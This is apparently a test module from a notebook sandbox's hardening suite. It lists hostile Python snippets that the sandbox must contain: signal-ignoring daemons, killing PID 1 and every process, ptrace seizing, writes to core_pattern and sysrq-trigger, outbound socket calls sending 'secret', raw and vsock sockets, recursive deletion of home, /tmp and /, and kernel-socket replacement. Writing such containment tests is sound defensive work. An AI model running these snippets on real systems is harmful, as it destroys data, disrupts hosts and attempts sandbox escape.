"""Processes that outlive their notebook, and other processes that shall not; the network; deletion."""

from tests.hostile.attack import Attack, solved

LEAVE_CHILDREN = """
import subprocess, sys, time
code = "import os, time; os.fork() and os._exit(0); os.setsid(); time.sleep(600)"
subprocess.Popen([sys.executable, "-c", code, "@marker@"])
subprocess.Popen(["setsid", "nohup", "sh", "-c", "sleep 600 # @marker@"])
time.sleep(0.5)
"""

DAEMON = """
import ctypes, os, signal, sys, time
if os.fork() == 0:
    os.setsid()
    if os.fork():
        os._exit(0)
    for number in range(1, 65):
        try:
            signal.signal(number, signal.SIG_IGN)
        except (OSError, ValueError):
            pass
    ctypes.CDLL(None).prctl(1, 0)  # PR_SET_PDEATHSIG: nobody's death matters
    for number in range(3, 256):
        try:
            os.close(number)
        except OSError:
            pass
    again = "import os, time\\nwhile True:\\n  if os.fork():\\n    time.sleep(1)\\n    os._exit(0)\\n  os.setsid()"
    os.execv(sys.executable, [sys.executable, "-c", again, "@marker@"])
time.sleep(0.5)
"""

KILL_PARENTS = """
import os, signal
parent = os.getppid() or 1  # 0: it is in no namespace that one can see, and would stand for the own group
for target in (parent, 1, -parent, 2, 3):
    for number in (signal.SIGTERM, signal.SIGKILL):
        if target != os.getpid():
            try:
                os.kill(target, number)
            except OSError:
                pass
"""

KILL_ALL = """
import os, signal
for number in (signal.SIGTERM, signal.SIGKILL):
    try:
        os.kill(-1, number)
    except OSError:
        pass
"""

STOP_ALL = """
import os, signal
for target in (os.getppid() or 1, -1, 1, *range(2, 200)):
    if target != os.getpid():
        try:
            os.kill(target, signal.SIGSTOP)
        except OSError:
            pass
"""

SIGNAL_EVERYBODY = """
import os, signal
for target in range(1, 70000):
    if target != os.getpid():
        for number in (signal.SIGSTOP, signal.SIGKILL):
            try:
                os.kill(target, number)
            except OSError:
                break
"""

TAKE_OVER = """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
for target in (os.getppid(), 1, *range(2, 300)):
    if target != os.getpid() and libc.ptrace(0x4206, target, None, None) == 0:  # PTRACE_SEIZE
        print("LEAK: has seized", target)
    try:
        os.setpriority(os.PRIO_PROCESS, target, 19)
        libc.prlimit(target, 7, ctypes.byref((ctypes.c_ulong * 2)(3, 3)), None)
    except OSError:
        pass
for flags in (0x10000000, 0x00020000, 0x20000000):  # CLONE_NEWUSER, NEWNS, NEWPID
    libc.unshare(flags)
for path in ("/proc/sys/kernel/core_pattern", "/proc/sysrq-trigger", "/sys/fs/cgroup/cgroup.procs"):
    try:
        with open(path, "w") as file:
            file.write("")
            print("LEAK: writes", path)
    except OSError:
        pass
"""

CALL_HOME = """
import socket
def attempt(family, kind, address):
    with socket.socket(family, kind) as caller:
        caller.settimeout(1)
        try:
            if kind == socket.SOCK_DGRAM and family == socket.AF_INET:
                caller.sendto(b"secret", address)  # the listener tells whether it arrived
            else:
                caller.connect(address)
                caller.send(b"secret")
                print("LEAK", address)
        except OSError:
            pass
for arguments in (
    (socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", @tcp@)),
    (socket.AF_INET, socket.SOCK_STREAM, ("1.1.1.1", 53)),
    (socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", @udp@)),
    (socket.AF_UNIX, socket.SOCK_STREAM, "\\0@abstract@"),
    (socket.AF_UNIX, socket.SOCK_STREAM, "@path@"),
):
    try:
        attempt(*arguments)
    except OSError:
        pass
"""

ODD_SOCKETS = """
import socket
for name, family, kind, protocol in (
    ("raw", socket.AF_INET, socket.SOCK_RAW, 1),
    ("packet", socket.AF_PACKET, socket.SOCK_RAW, 0x300),
    ("vsock", getattr(socket, "AF_VSOCK", 40), socket.SOCK_STREAM, 0),
    ("bluetooth", 31, socket.SOCK_RAW, 1),
    ("crypto", 38, socket.SOCK_SEQPACKET, 0),
):
    try:
        with socket.socket(family, kind, protocol) as made:
            if name == "vsock":
                made.settimeout(1)
                made.connect((2, 22))
            if name != "crypto":
                print("LEAK: a socket of the kind", name)
    except OSError:
        pass
"""

DELETE = """
import os, shutil, subprocess
for path in (".", "..", "../../..", "@course@", os.path.expanduser("~"), "/tmp", "/dev/shm", "/run", "/"):
    command = ["find", path, "-xdev", "-depth", "-not", "-path", "*/env/*", "-delete"]
    try:
        subprocess.run(command, capture_output=True, timeout=8)
    except (OSError, subprocess.TimeoutExpired):
        pass
    if path != "/":
        shutil.rmtree(path, ignore_errors=True)
"""

DELETE_SOCKETS = """
import glob, os
for pattern in ("/run/nbcohort/sockets/*", "/tmp/*", "~/.local/share/jupyter/runtime/*", "/run/user/*/*"):
    for path in glob.glob(os.path.expanduser(pattern)):
        try:
            os.remove(path)
            os.symlink("@path@", path)
        except OSError:
            pass
"""

ATTACKS: dict[str, Attack] = {
    "leaves-children": solved("leaves processes behind", "processes", LEAVE_CHILDREN),
    "daemon": solved(
        "leaves a daemon that ignores all signals and changes its process each second", "processes", DAEMON
    ),
    "kills-parents": solved("kills process 1, its parents and their group", "processes", KILL_PARENTS, shows=None),
    "kills-all": solved("kills every process that it may", "processes", KILL_ALL, shows=None),
    "stops-all": solved("stops every process that it may, with SIGSTOP", "processes", STOP_ALL, shows=None),
    "signals-everybody": solved(
        "stops and kills every process by its number", "processes", SIGNAL_EVERYBODY, shows=None
    ),
    "takes-over": solved("traces, renices and limits other processes, and makes namespaces", "processes", TAKE_OVER),
    "calls-home": solved("calls out over TCP, UDP and unix sockets", "network", CALL_HOME),
    "odd-sockets": solved("opens raw, packet and vsock sockets", "network", ODD_SOCKETS),
    "deletes": solved("deletes everything that it may", "deletion", DELETE),
    "deletes-sockets": solved(
        "deletes the sockets of kernels and puts links in their place", "deletion", DELETE_SOCKETS
    ),
}
